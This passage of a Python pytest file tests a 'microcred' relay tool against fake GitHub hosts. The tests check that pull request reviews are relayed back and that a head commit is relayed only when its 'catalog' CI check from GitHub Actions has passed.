    intake.check_run(C2, "catalog", "success")
    assert relay(cli, monkeypatch, public.url, catalog, 3, "--head", C2).code == 0
    public.review(1, "bob", "COMMENTED", body="Which lesson is this?")
    intake.requests.clear()
    run = relay(cli, monkeypatch, public.url, catalog, 3, "--back")
    assert (run.code, run.out) == (0, "intake #3: the reviews of pull request #1 brought back\n")
    assert [r.path for r in intake.writes] == [f"/repos/{INTAKE}/issues/comments/{intake.comments[0]['id']}"]  # edited, nothing else
    assert "**bob** commented" in intake.comments[0]["body"] and "Which lesson is this?" in intake.comments[0]["body"]
    assert relay(cli, monkeypatch, public.url, catalog, 3, "--back").out == "intake #3: the reviews of pull request #1 unchanged\n"


@pytest.mark.parametrize(
    ("runs", "said"),
    [
        ([], "has not run on its head 1111111"),
        ([("catalog", "failure", "github-actions")], "did not pass on its head 1111111 (failure)"),
        (
            [("catalog", "success", "github-actions"), ("catalog", "failure", "github-actions")],
            "did not pass on its head 1111111 (failure)",
        ),
        ([("catalog", None, "github-actions")], "is still running on its head 1111111"),
        ([("catalog", "success", "someones-app"), ("lint", "success", "github-actions")], "has not run on its head 1111111"),
        ([("catalog", "failure", "github-actions"), ("catalog", "success", "github-actions")], ""),  # re-run and passed
    ],
)
def test_only_a_head_that_check_pr_passed_is_relayed_however_the_relay_was_started(
    hosts: tuple[FakeGitHub, FakeGitHub],
    catalog: Path,
    cli: Cli,
    monkeypatch: pytest.MonkeyPatch,
    runs: list[tuple[str, str | None, str]],
    said: str,
) -> None:
    """A dispatch by hand relays the current head: the relay itself reads its check runs, and a failed, missing,
    running or foreign check (another app's run called `catalog`) relays nothing."""
    public, intake = hosts
    submit(intake)
    intake.check_runs.clear()
    for name, conclusion, app in runs:
        intake.check_run(C1, name, conclusion, app)
    run = relay(cli, monkeypatch, public.url, catalog)
    if not said:
        assert (run.code, list(public.pulls)) == (0, [1])
        return
    assert (run.code, run.err) == (
        1,
        f"microcred: relay: #3: check-pr (the catalog check of validate.yml) {said}; it is relayed once the check passes\n",
    )
    assert public.writes == [] and public.pulls == {}
    assert [r.path for r in intake.writes] == [f"/repos/{INTAKE}/issues/3/comments"]  # the reason, told to the earner; no binding


def test_the_check_the_relay_requires_is_the_job_of_validate_that_runs_check_pr() -> None:
    from microcred.review.relay import CHECK

    job = yaml.safe_load((ROOT / ".github/workflows/validate.yml").read_text(encoding="utf-8"))["jobs"][CHECK]
    assert job.get("name", CHECK) == CHECK  # the check run's name is the job's name, its id when it has none
    assert any("microcred check-pr" in step.get("run", "") for step in job["steps"])
